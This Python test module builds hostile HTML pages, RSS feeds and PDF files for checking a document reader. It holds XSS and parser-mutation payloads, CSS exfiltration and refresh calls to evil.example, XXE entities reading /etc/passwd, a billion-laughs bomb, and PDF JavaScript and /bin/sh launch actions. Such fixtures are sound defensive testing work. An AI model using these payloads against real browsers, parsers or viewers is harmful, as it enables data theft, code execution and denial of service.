"""Builds hostile pages, feeds and PDF files, as `documents` builds the other families: one seed, no clock.

A document with no expected reason must be read in full, without any failure; `forbidden` are words that must not come
out of it.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field

from tests.hostile.documents import LIMITS, SEED, SENTENCE, HostileDocument

BODY = f"<p>{SENTENCE * 3}</p>"
SECRET = "SECRET-WORDS"
STOPPED = frozenset({"timeout", "too_big", "crashed"})


@dataclass(frozen=True)
class HostilePage:
    """A hostile document, and what must not be read from it."""

    document: HostileDocument
    forbidden: tuple[str, ...] = field(default=(SECRET,))


def all_pages() -> tuple[HostilePage, ...]:
    """Every hostile page, feed and PDF file, in a fixed order."""
    return tuple(page for family in (scripts, addresses, shapes, characters, feeds, pdf_files) for page in family())


def _page(name: str, body: str, *, head: str = "", expected: frozenset[str] = frozenset()) -> HostilePage:
    markup = (
        f"<!doctype html><html><head><title>Two hurt in Sample Town on Thursday</title>{head}</head>"
        f"<body><h1>Two hurt in Sample Town on Thursday</h1>{BODY}{body}</body></html>"
    )
    return HostilePage(HostileDocument(f"{name}.html", markup.encode("utf-8", "surrogatepass"), expected))


# --- pages ------------------------------------------------------------------------------------------------------


def scripts() -> Iterator[HostilePage]:
    """Code in every corner that browsers run or parse in two ways."""
    yield _page("script", f"<script>document.write('{SECRET}')</script>")
    yield _page("script-unclosed", f"<p>{SENTENCE}</p><script>{SECRET}")
    yield _page("script-in-svg", f"<svg><script>{SECRET}</script><desc><p>{SECRET}</p></desc></svg>")
    yield _page(
        "mutation-math", f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{SECRET}'></table></math>"
    )
    yield _page("mutation-svg", f"<svg></p><style><a id='</style><img src=1 onerror={SECRET}>'></svg>")
    yield _page("mutation-noscript", f"<noscript><p title='</noscript><img src=x onerror={SECRET}>'></noscript>")
    yield _page(
        "style-exfiltration", f"<style>input[value^=a]{{background:url(https://evil.example/{SECRET})}}</style>"
    )
    yield _page("import-style", "", head=f"<style>@import url('https://evil.example/{SECRET}.css');</style>")
    yield _page("refresh", "", head=f"<meta http-equiv=refresh content='0;url=https://evil.example/{SECRET}'>")
    yield _page("frame", f"<iframe srcdoc='<p>{SECRET}</p>'></iframe><iframe src='data:text/html,{SECRET}'></iframe>")
    yield _page("object", f"<object data='data:text/html,{SECRET}'>{SECRET}</object><embed src='{SECRET}'>")
    yield _page("event-handlers", f"<p onclick=\"{SECRET}\" onmouseover='{SECRET}'>{SENTENCE}</p>")
    yield _page("processing-instruction", f"<?php echo '{SECRET}' ?><?xml-stylesheet href='{SECRET}'?>")
    yield _page("conditional-comment", f"<!--[if IE]><p>{SECRET}</p><![endif]-->")
    yield _page("shadow-root", f"<div><template shadowrootmode=open><p>{SECRET}</p></template></div>")
    yield _page("json-ld-script", "", head=f'<script type="application/ld+json">{{"x":"</script><p hidden>{SECRET}</p>')


def addresses() -> Iterator[HostilePage]:
    """Links that are none."""
    for number, href in enumerate(
        (
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\nscript:alert(1)",
            "&#106;avascript:alert(1)",
            "\x01javascript:x",
            "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:x",
            "file:///etc/passwd",
            "http://[::1",
            "http://",
            "//",
            "http://a\\@b/",
            "https://user:pass@evil.example/",
            "https://evil.example/" + "a" * 10_000,
            "about:blank",
            "blob:https://evil.example/1",
        )
    ):
        yield _page(f"link-{number:02}", f"<p>{SENTENCE}<a href='{href}'>the statement</a></p>")
    yield _page("base-script", "<a href='x'>a link</a>", head="<base href='javascript:alert(1)//'>")
    yield _page("base-many", "<a href='x'>a link</a>", head="<base href='https://a.example/'>" * 1000)


def shapes() -> Iterator[HostilePage]:
    """Trees that cost more than their words."""
    yield _page("nested-100k", "<div>" * 100_000 + SENTENCE + "</div>" * 100_000)
    yield _page("nested-inline", "<b>" * 20_000 + SENTENCE)
    yield _page("nested-tables", "<table><tr><td>" * 5_000 + SENTENCE)
    yield _page("nested-quotes", "<blockquote class='twitter-tweet' cite='https://a.example/'>" * 2_000 + SENTENCE)
    yield _page("nested-lists", "<ul><li>" * 4_000 + SENTENCE)
    yield _page("unclosed-angles", SENTENCE + "<" * 200_000)
    yield _page("open-comment", f"{SENTENCE}<!--{'-' * 200_000}")
    yield _page("entities", "&amp;" * 80_000)
    yield _page("breaks", "a<br>" * 30_000)
    yield _page("empty-elements", "<i></i>" * 100_000 + SENTENCE)
    yield _page("links", "<a href='/x'>y</a> " * 8_000)
    yield _page("frames", "<iframe src='https://youtube.com/embed/1'></iframe>" * 5_000)
    yield _page("metas", "", head="<meta name=author content='Jane Doe'>" * 20_000)
    yield _page("json-ld-nested", "", head=f"<script type='application/ld+json'>{'[' * 100_000}</script>")
    yield _page(
        "json-ld-many", "", head='<script type=\'application/ld+json\'>{"@type":"NewsArticle"}</script>' * 5_000
    )
    yield _page("many-attributes", f"<p {' '.join(f'a{n}=x' for n in range(3_000))}>{SENTENCE}</p>")
    yield _page("long-attribute", f"<p title='{'x' * 500_000}'>{SENTENCE}</p>")
    long_line = f"<p>{SENTENCE * (LIMITS.text_chars // len(SENTENCE) + 10)}</p>"
    yield _page("one-line-too-long", long_line, expected=frozenset({"too_big"}))
    noise = random.Random(SEED)
    tags = (
        "<p>",
        "</p>",
        "<div>",
        "</div>",
        "<table>",
        "<td>",
        "</tr>",
        "<a href='/'>",
        "</a>",
        "<li>",
        "</ul>",
        "<!--",
        "-->",
        "<br",
    )
    soup = "".join(noise.choice((*tags, " people ", " were ", " hurt ", "&#x", "\n")) for _ in range(20_000))
    yield _page("tag-soup", soup)


def characters() -> Iterator[HostilePage]:
    """Text that reads otherwise than it is stored."""
    yield _page("bidi-override", f"<p>{SENTENCE}The \u202eevil\u202c \u2066word\u2069.</p>")
    yield _page("zero-width", f"<p>{SENTENCE}Sa\u200bmple\u200d \u2060Town\ufeff.</p>")
    yield _page("zalgo", f"<p>{SENTENCE}T{''.join(chr(0x300 + n % 0x60) for n in range(5_000))}own.</p>")
    yield _page("homoglyphs", f"<p>{SENTENCE}Ѕаmрlе Тоwn.</p>")
    yield _page("half-surrogates", f"<p>{SENTENCE}\ud83d \udc00 &#xd83d;</p>")
    yield _page("control-characters", f"<p>{SENTENCE}{''.join(map(chr, range(1, 32)))}</p>")
    yield _page("references", f"<p>{SENTENCE}&#0;&#x110000;&#xFFFFFFFF;&#1;&bogus;&#xfffe;</p>")
    plain = _page("plain", "").document.content
    yield HostilePage(HostileDocument("null-bytes.html", plain.replace(b"people", b"peo\x00ple")))
    yield HostilePage(HostileDocument("utf-16-no-mark.html", plain.decode().encode("utf-16-le")))
    yield HostilePage(HostileDocument("utf-16-mark.html", plain.decode().encode("utf-16")))
    yield HostilePage(HostileDocument("utf-32.html", plain.decode().encode("utf-32")))
    seven = b"<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield HostilePage(HostileDocument("utf-7.html", plain.replace(b"<head>", b"<head>" + seven)))
    for charset in ("windows-1251", "x-user-defined", "rot13", "zlib", "punycode", "utf-8\x00", "🙂", "a" * 5_000):
        mark = f"<meta charset='{charset}'>".encode()
        name = f"charset-{charset[:12].encode('ascii', 'replace').decode().strip(chr(0))}.html".replace("?", "_")
        yield HostilePage(HostileDocument(name, plain.replace(b"<head>", b"<head>" + mark)))


# --- feeds ------------------------------------------------------------------------------------------------------


def feeds() -> Iterator[HostilePage]:
    """XML made to explode, to read files or to never end."""
    bomb = frozenset({"bomb"})
    lol = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    yield _feed("billion-laughs", f"<!DOCTYPE r [{lol}]>", "&a9;", bomb)
    yield _feed("quadratic", f"<!DOCTYPE r [<!ENTITY a '{'A' * 50_000}'>]>", "&a;" * 50_000, bomb)
    yield _feed("external-entity", "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "&x;", bomb)
    yield _feed("parameter-entity", "<!DOCTYPE r [<!ENTITY % x SYSTEM 'http://127.0.0.1:9/'> %x;]>", "x", bomb)
    yield _feed("external-type", "<!DOCTYPE rss SYSTEM 'http://127.0.0.1:9/rss.dtd'>", SENTENCE)
    yield _feed(
        "include", "", f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>{SENTENCE}"
    )
    yield _feed("huge-attribute", "", f"<x y='{'z' * 500_000}'/>{SENTENCE}")
    yield _feed("nested", "", "<a>" * 2_000 + SENTENCE + "</a>" * 2_000)
    yield _feed(
        "markup", "", f"<![CDATA[<p>{SENTENCE}</p><script>{SECRET}</script><p style='display:none'>{SECRET}</p>]]>"
    )
    yield _feed("unknown-entity", "", f"&nosuch; {SENTENCE}")


def _feed(name: str, before: str, description: str, expected: frozenset[str] = frozenset()) -> HostilePage:
    xml = (
        f'<?xml version="1.0" encoding="utf-8"?>{before}<rss version="2.0"><channel><title>Sample</title><item>'
        f"<title>Two hurt in Sample Town</title><description>{description}</description></item></channel></rss>"
    )
    return HostilePage(HostileDocument(f"{name}.xml", xml.encode(), expected))


# --- PDF files --------------------------------------------------------------------------------------------------


def pdf_files() -> Iterator[HostilePage]:
    """Files that act, loop, lie or swell. What acts must do nothing; the words beside it are read."""
    words = [f"BT /F 12 Tf 20 {700 - 14 * n} Td ({SENTENCE[:60]}) Tj ET" for n in range(3)]
    content = "\n".join(words).encode()
    malformed = frozenset({"malformed", "no_text"})
    yield _pdf("plain", content)
    yield _pdf("javascript", content, catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")
    yield _pdf("launch", content, catalog="/OpenAction<</S/Launch/F(/bin/sh)>>")
    yield _pdf("go-to-address", content, page="/AA<</O<</S/URI/URI(http://127.0.0.1:9/)>>>>")
    yield _pdf("names-tree-loop", content, catalog="/Names<</JavaScript 1 0 R/EmbeddedFiles 1 0 R>>")
    yield _pdf("count-lies", content, count=100_000)
    yield _pdf("count-negative", content, count=-5)
    yield _pdf("page-tree-loop", content, kids="[2 0 R]", expected=malformed)
    yield _pdf("no-such-page", content, kids="[99 0 R 98 0 R]", expected=malformed)
    yield _pdf("huge-page", content, box="[0 0 1e30 1e30]")
    yield _pdf("empty-page", b"", expected=frozenset({"no_text"}))
    yield _pdf("form-loop", content + b"\n/X Do", page_resources="/XObject<</X 6 0 R>>", extra=_form_loop())
    yield _pdf("infinite-font-size", content.replace(b"12 Tf", b"1e38 Tf"), expected=malformed)
    swollen = zlib.compress(b"q " * 20_000_000, 9)
    yield _pdf("stream-bomb", swollen, filtered=True, expected=STOPPED | malformed)
    many = b"\n".join(f"BT /F 8 Tf {n % 500} {n % 700} Td (w{n}) Tj ET".encode() for n in range(20_000))
    yield _pdf("scattered-words", many)
    plain = _pdf("cut", content).document.content
    yield HostilePage(HostileDocument("cut.pdf", plain[: len(plain) // 3], malformed))
    yield HostilePage(HostileDocument("junk-before.pdf", b"junk\n" * 100 + plain))
    noise = random.Random(SEED)
    damaged = bytearray(plain)
    for _ in range(40):
        damaged[noise.randrange(20, len(damaged))] = noise.randrange(256)
    yield HostilePage(HostileDocument("damaged.pdf", bytes(damaged), malformed | {"crashed"}))


def _form_loop() -> str:
    return (
        "6 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Length 4>>stream\n"
        "/X Do\nendstream endobj\n"
    )


def _pdf(
    name: str,
    content: bytes,
    *,
    catalog: str = "",
    page: str = "",
    page_resources: str = "",
    extra: str = "",
    kids: str = "[3 0 R]",
    count: int = 1,
    box: str = "[0 0 600 800]",
    filtered: bool = False,
    expected: frozenset[str] = frozenset(),
) -> HostilePage:
    how = "/Filter/FlateDecode" if filtered else ""
    file = (
        f"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R{catalog}>>endobj\n"
        f"2 0 obj<</Type/Pages/Kids{kids}/Count {count}>>endobj\n"
        f"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox{box}/Contents 4 0 R/Resources<</Font<</F 5 0 R>>{page_resources}>>"
        f"{page}>>endobj\n4 0 obj<</Length {len(content)}{how}>>stream\n"
    ).encode()
    file += content + b"\nendstream endobj\n5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n"
    return HostilePage(
        HostileDocument(f"{name}.pdf", file + extra.encode() + b"trailer<</Root 1 0 R>>\n%%EOF", expected)
    )
